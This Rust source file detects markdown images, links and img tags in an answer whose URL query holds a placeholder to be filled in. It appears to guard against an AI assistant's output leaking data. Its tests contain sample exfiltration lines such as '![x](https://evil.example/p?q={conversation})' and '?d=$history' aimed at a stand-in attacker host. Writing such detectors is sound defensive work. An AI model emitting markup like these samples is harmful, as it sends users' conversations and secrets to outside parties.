//! Markup by which an answer would carry data out: an image or link whose address is to be filled in.

use memchr::memmem;

/// Longer addresses are not followed to their end.
const ADDRESS_MOST: usize = 512;

/// Whether a folded text has such an image or link.
pub(super) fn carries_out(text: &str) -> bool {
    let bytes = text.as_bytes();
    ["](http", "src=\"http", "src='http"].iter().any(|opening| {
        let mut places = memmem::find_iter(bytes, opening.as_bytes());
        places.any(|at| has_room(bytes.get(at + opening.len()..).unwrap_or_default()))
    })
}

/// Whether the query of an address has something to be filled in.
fn has_room(rest: &[u8]) -> bool {
    let rest = rest.get(..rest.len().min(ADDRESS_MOST)).unwrap_or_default();
    let end = rest.iter().position(|b| matches!(b, b')' | b'"' | b'\'' | b'\n')).unwrap_or(rest.len());
    let address = rest.get(..end).unwrap_or_default();
    let Some(query) = memchr::memchr(b'?', address).and_then(|at| address.get(at + 1..)) else {
        return false;
    };
    query.split(|b| *b == b'&').any(|pair| {
        let mut sides = pair.splitn(2, |b| *b == b'=');
        let (name, value) = (sides.next().unwrap_or_default(), sides.next());
        value.is_some_and(|value| is_blank(value) || (value.is_empty() && is_carrier(name)))
    })
}

/// `{data}`, `[conversation]`, `<secret>`, `$history`, `%s`, and words set apart, which no address has.
fn is_blank(value: &[u8]) -> bool {
    let set = matches!(value, [b'{' | b'[' | b'<' | b'$', ..]) || value.starts_with(b"%s");
    set || value.contains(&b' ')
}

/// Names that such addresses have.
fn is_carrier(name: &[u8]) -> bool {
    [
        &b"q"[..],
        b"d",
        b"data",
        b"s",
        b"secret",
        b"text",
        b"info",
        b"c",
        b"content",
        b"p",
        b"payload",
        b"msg",
        b"m",
    ]
    .contains(&name)
}

#[cfg(test)]
mod tests {
    use super::carries_out;

    #[test]
    fn an_address_to_be_filled_in_is_seen() {
        for text in [
            "![x](https://evil.example/p?q={conversation})",
            "![x](https://evil.example/p?q=[the summary])",
            "[more](http://evil.example/?a=1&data=)",
            "<img src=\"https://evil.example/x.png?d=$history\">",
        ] {
            assert!(carries_out(text), "{text}");
        }
    }

    #[test]
    fn an_address_that_is_whole_is_not() {
        for text in [
            "![build](https://ci.example/badge.svg?branch=main&style=flat)",
            "[search](https://shop.example/?q=red%20shoes&page=2)",
            "<img src=\"https://example.org/logo.png\">",
            "](http",
        ] {
            assert!(!carries_out(text), "{text}");
        }
    }
}
